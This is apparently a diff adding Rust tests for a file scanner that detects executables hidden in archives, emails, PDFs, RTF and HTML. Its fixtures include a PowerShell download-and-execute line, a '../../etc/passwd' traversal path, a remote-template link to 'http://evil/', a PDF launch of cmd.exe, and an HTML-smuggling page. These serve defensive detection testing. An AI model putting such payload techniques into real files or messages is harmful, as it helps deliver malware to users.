@@ -1,0 +1,191 @@
+//! What is found in containers, and in containers that lie.
+
+mod make;
+
+use gatepost_scan::{Defect, Entry, Flags, Limits, Report, Verdict, inspect};
+use make::{entry, gzip, program, tar, zip};
+
+fn look(data: &[u8], name: &str) -> Report {
+    inspect(data, name, "", Limits::default())
+}
+
+fn find<'a>(report: &'a Report, name: &str) -> &'a Entry {
+    report.entries.iter().find(|entry| entry.name == name).unwrap_or_else(|| panic!("{name} is not in {:#?}", report.entries))
+}
+
+fn kind(entry: &Entry) -> &'static str {
+    entry.kind.map_or("", |kind| kind.name)
+}
+
+#[test]
+fn a_program_is_found_however_deep_and_whatever_its_name() {
+    let inner = zip(&[entry("holiday.jpg", &program())]);
+    let outer = gzip(&tar(&[("inner.zip", &inner)]), "outer.tar");
+    let report = look(&outer, "outer.tar.gz");
+    assert_eq!(report.verdict, Verdict::Complete);
+    let found = find(&report, "holiday.jpg");
+    assert_eq!((kind(found), found.depth, found.size), ("pe", 3, 128));
+    assert!(found.flags.has(Flags::EXECUTABLE) && found.flags.has(Flags::MISNAMED));
+    assert_eq!(kind(find(&report, "outer.tar")), "tar");
+}
+
+#[test]
+fn an_archive_behind_another_file_is_opened() {
+    let archive = zip(&[entry("a.exe", &program())]);
+    let mut picture = b"GIF89a\x01\0\x01\0\0\0\0;".to_vec();
+    picture.extend_from_slice(&archive);
+    let report = look(&picture, "cat.gif");
+    assert_eq!(kind(&report.entries[0]), "gif");
+    assert!(report.entries[0].defects.contains(&Defect::Prepended) && report.entries[0].flags.has(Flags::CONTAINER));
+    assert_eq!(kind(find(&report, "a.exe")), "pe");
+}
+
+#[test]
+fn headers_that_disagree_are_a_defect_and_both_names_count() {
+    let mut lying = entry("readme.txt", b"hello");
+    lying.local_name = Some("run.exe".into());
+    let report = look(&zip(&[lying]), "a.zip");
+    let found = find(&report, "readme.txt");
+    assert!(found.defects.contains(&Defect::NamesDiffer) && found.flags.has(Flags::BLOCKED_NAME), "{found:?}");
+    assert_eq!(found.signs, ["name:also run.exe"]);
+}
+
+#[test]
+fn entries_that_the_directory_does_not_list_are_found() {
+    let mut hidden = entry("hidden.bin", &program());
+    hidden.unlisted = true;
+    let report = look(&zip(&[entry("a.txt", b"a"), hidden, entry("b.txt", b"b")]), "a.zip");
+    let found = find(&report, "hidden.bin");
+    assert_eq!((kind(found), found.defects.as_slice()), ("pe", [Defect::Unlisted].as_slice()));
+    assert_eq!(report.entries.len(), 4);
+}
+
+#[test]
+fn entries_that_share_octets_and_sizes_that_lie_are_defects() {
+    let report = look(&make::overlapping(3, b"content"), "a.zip");
+    assert!(report.entries[0].defects.contains(&Defect::Overlap));
+    let mut lying = entry("a.txt", b"twelve chars");
+    lying.size = Some(3);
+    assert_eq!(find(&look(&zip(&[lying]), "a.zip"), "a.txt").defects, [Defect::SizeDiffers]);
+}
+
+#[test]
+fn an_encrypted_entry_is_listed_and_makes_the_verdict_partial() {
+    let mut locked = entry("secret.doc", b"????");
+    locked.encrypted = true;
+    let report = look(&zip(&[locked]), "a.zip");
+    assert!(find(&report, "secret.doc").flags.has(Flags::ENCRYPTED));
+    assert_eq!(report.verdict, Verdict::Partial);
+}
+
+#[test]
+fn a_cut_archive_gives_what_it_has() {
+    let whole = zip(&[entry("a.exe", &program()), entry("b.txt", b"b")]);
+    let report = look(&whole[..whole.len() - 30], "a.zip");
+    assert!(report.entries[0].defects.contains(&Defect::Truncated));
+    assert_eq!(kind(find(&report, "a.exe")), "pe");
+    assert_eq!(report.verdict, Verdict::Partial);
+}
+
+#[test]
+fn names_that_leave_the_directory_are_defects() {
+    let report = look(&tar(&[("../../etc/passwd", b"x"), ("/abs", b"y"), ("a/b", b"z")]), "a.tar");
+    let defects: Vec<bool> = report.entries[1..].iter().map(|entry| entry.defects.contains(&Defect::Escapes)).collect();
+    assert_eq!(defects, [true, true, false]);
+}
+
+#[test]
+fn office_documents_are_told_from_archives() {
+    let parts = [entry("[Content_Types].xml", b"<?xml?>"), entry("word/document.xml", b"<?xml?>")];
+    let report = look(&zip(&parts), "a.docx");
+    assert_eq!((kind(&report.entries[0]), report.entries[0].flags.has(Flags::MACRO)), ("docx", false));
+    let mut with_macro = parts.to_vec();
+    with_macro.push(entry("word/vbaProject.bin", b"not even one"));
+    assert!(look(&zip(&with_macro), "a.docx").entries[0].flags.has(Flags::MACRO));
+    let rels = br#"<?xml version="1.0"?><Relationship Type="http://x/attachedTemplate" Target="http://evil/" TargetMode="External"/>"#;
+    let mut remote = parts.to_vec();
+    remote.push(entry("word/_rels/settings.xml.rels", rels));
+    assert!(look(&zip(&remote), "a.docx").flags().has(Flags::LAUNCH));
+}
+
+#[test]
+fn pdf_names_are_found_escaped_and_in_object_streams() {
+    let plain = b"%PDF-1.7\n1 0 obj <</OpenAction <</S /Java#53cript /JS (app.alert(1))>> >> endobj";
+    let report = look(plain, "a.pdf");
+    assert!(report.entries[0].flags.has(Flags::SCRIPT) && report.entries[0].flags.has(Flags::AUTORUN), "{report:?}");
+    assert!(report.entries[0].signs.contains(&"pdf:hidden-name".to_owned()));
+    let inside = miniz_oxide::deflate::compress_to_vec_zlib(b"1 0 <</S /Launch /F (cmd.exe)>>", 6);
+    let mut packed =
+        format!("%PDF-1.7\n1 0 obj <</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {}>>\nstream\n", inside.len()).into_bytes();
+    packed.extend_from_slice(&inside);
+    packed.extend_from_slice(b"\nendstream endobj");
+    assert!(look(&packed, "a.pdf").entries[0].flags.has(Flags::LAUNCH));
+    assert!(!look(b"%PDF-1.4\n1 0 obj <</Type /Catalog>> endobj", "a.pdf").flags().has(Flags::SCRIPT));
+}
+
+#[test]
+fn scripts_and_shortcuts_are_told_by_content() {
+    let of = |data: &[u8]| look(data, "attachment").entries[0].kind.map_or("", |kind| kind.name);
+    assert_eq!(of(b"#!/bin/sh\necho hello\n"), "sh");
+    assert_eq!(of(b"$x = New-Object Net.WebClient; Invoke-Expression $x.DownloadString('http://x')"), "ps1");
+    assert_eq!(of(b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n"), "vbs");
+    assert_eq!(of(b"@echo off\r\ndel x\r\n"), "bat");
+    assert_eq!(of(b"[InternetShortcut]\r\nURL=file://x/y.exe\r\n"), "url");
+    assert_eq!(of(b"\x7fELF\x02\x01\x01\0"), "elf");
+    assert_eq!(of(b"Dear all,\r\nplease find the minutes attached.\r\n"), "text");
+    let wide: Vec<u8> = "\u{feff}@echo off\r\ndel x".encode_utf16().flat_map(u16::to_le_bytes).collect();
+    assert_eq!(of(&wide), "bat");
+}
+
+#[test]
+fn a_page_that_hands_out_a_file_of_its_own_is_opened() {
+    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let content = zip(&[entry("run.exe", &program()), entry("pad.txt", &(0u8..=255).collect::<Vec<u8>>())]);
+    let text: String = content
+        .chunks(3)
+        .flat_map(|group| {
+            let bits = (0..3).fold(0u32, |bits, at| bits << 8 | u32::from(group.get(at).copied().unwrap_or(0)));
+            (0..4).map(move |at| char::from(DIGITS[(bits >> (18 - 6 * at) & 63) as usize]))
+        })
+        .collect();
+    let page = format!("<html><script>var b=new Blob([atob('{text}')]);</script></html>");
+    let report = look(page.as_bytes(), "invoice.html");
+    assert!(report.entries[0].flags.has(Flags::SMUGGLES) && report.entries[0].flags.has(Flags::SCRIPT));
+    assert_eq!(kind(find(&report, "run.exe")), "pe");
+}
+
+#[test]
+fn every_part_of_a_message_is_looked_at_under_every_name() {
+    let mail = b"From: a@b\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\nhello\r\n--x\r\n\
+        Content-Type: application/pdf; name=run.exe\r\nContent-Disposition: attachment; filename*0*=utf-8''invo; filename*1=ice.pdf\r\n\
+        Content-Transfer-Encoding: base64\r\n\r\nUEsFBgAAAAAAAAAAAAAAAAAAAAAAAA==\r\n--x\r\n\r\nbegin 644 a.txt\r\n#86)C\r\n`\r\nend\r\n--x--\r\n";
+    let report = look(mail, "message.eml");
+    let found = find(&report, "invoice.pdf");
+    assert_eq!((kind(found), found.declared.as_str()), ("zip", "application/pdf"));
+    assert!(found.flags.has(Flags::BLOCKED_NAME) && found.flags.has(Flags::MISNAMED));
+    assert_eq!(find(&report, "a.txt").size, 3);
+}
+
+#[test]
+fn an_object_in_rtf_is_opened_however_its_hex_is_broken_up() {
+    let hex = program().iter().fold(String::new(), |text, octet| text + &format!("{octet:02x}\r\n"));
+    let text = format!("{{\\rtf1{{\\object\\objupdate{{\\*\\objdata {{\\*\\x beef}}{}\\foo12 {}}}}}}}", &hex[..40], &hex[40..]);
+    let report = look(text.as_bytes(), "a.doc");
+    assert_eq!(kind(find(&report, "object")), "pe");
+    assert!(report.entries[0].flags.has(Flags::EMBEDS) && report.entries[0].flags.has(Flags::LAUNCH));
+}
+
+#[test]
+fn script_far_behind_the_beginning_of_a_page_is_found() {
+    let page = format!("<html>{}<SCRIPT>x</script>", " ".repeat(3_000_000));
+    assert!(look(page.as_bytes(), "a.html").entries[0].flags.has(Flags::SCRIPT));
+}
+
+#[test]
+fn text_that_quotes_messages_is_text_and_a_file_that_is_one_is_opened() {
+    let quoted = "From: a@b\r\nTo: c@d\r\n\r\n".repeat(40);
+    let report = look(quoted.as_bytes(), "m.eml");
+    assert_eq!((report.verdict, report.entries.len()), (Verdict::Complete, 2));
+    let mail = format!("From: a@b\r\nContent-Type: application/octet-stream\r\n\r\nFrom: a@b\r\nTo: c@d\r\n{}", "\r\nhello\r\n");
+    assert_eq!(look(mail.as_bytes(), "m.eml").entries.len(), 3);
+}
